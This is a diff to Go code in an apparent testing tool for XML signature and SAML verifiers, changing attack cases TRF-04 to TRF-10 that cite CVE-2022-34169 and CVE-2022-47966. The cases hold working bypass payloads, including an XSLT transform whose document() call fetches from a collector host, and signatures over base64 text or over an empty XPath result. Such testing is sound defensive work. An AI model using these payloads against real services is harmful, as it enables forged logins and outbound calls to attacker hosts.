@@ -54,7 +54,7 @@ func init() {
 			Row: "TRF-04", Name: "transform-xslt-address", Modes: Alone, Lure: true, NoCrash: true,
 			Summary: "is signed by way of a style sheet that opens a web address",
 			Sources: []string{"Hill 2007", "CVE-2022-34169", "CVE-2022-47966"},
-			claims:  asVictim,
+			forged:  true,
 			sign: transformed(func(d Donor, r *dsig.Reference) error {
 				return insert(r, dsig.Transform{Algorithm: dsig.XSLT, Content: []*etree.Element{stylesheet(
 					`<xsl:template match="/"><xsl:copy-of select="document('` + d.Collector + `/stylesheet')"/></xsl:template>`)}})
@@ -70,7 +70,7 @@ func init() {
 		},
 		Attack{
 			Row: "TRF-06", Name: "transform-base64", Modes: Alone, Summary: "is signed over what its text is in base64",
-			claims: asVictim,
+			forged: true,
 			sign: transformed(func(_ Donor, r *dsig.Reference) error {
 				r.Transforms = []dsig.Transform{{Algorithm: dsig.Base64}}
 				r.Octets = unbase64(r.Over)
@@ -79,7 +79,7 @@ func init() {
 		},
 		Attack{
 			Row: "TRF-07", Name: "transform-to-nothing", Modes: Alone, Summary: "is signed over nothing, which is all that an XPath transform leaves",
-			claims: asVictim,
+			forged: true,
 			sign: transformed(func(_ Donor, r *dsig.Reference) error {
 				r.Octets = []byte{}
 				return insert(r, dsig.Transform{Algorithm: dsig.XPath, Content: []*etree.Element{worded("ds:XPath", nsSignature, "false()")}})
@@ -109,6 +109,7 @@ func init() {
 		},
 		Attack{
 			Row: "TRF-10", Name: "transforms-none", Modes: OnAssertion, Expect: Warn,
+			Only:    "the place of the response's signature is taken",
 			Summary: "has the signature of its assertion outside of it, and no transforms",
 			sign: func(d Donor, draft *idp.Draft) error {
 				s := enveloped(d, draft, draft.Assertion)
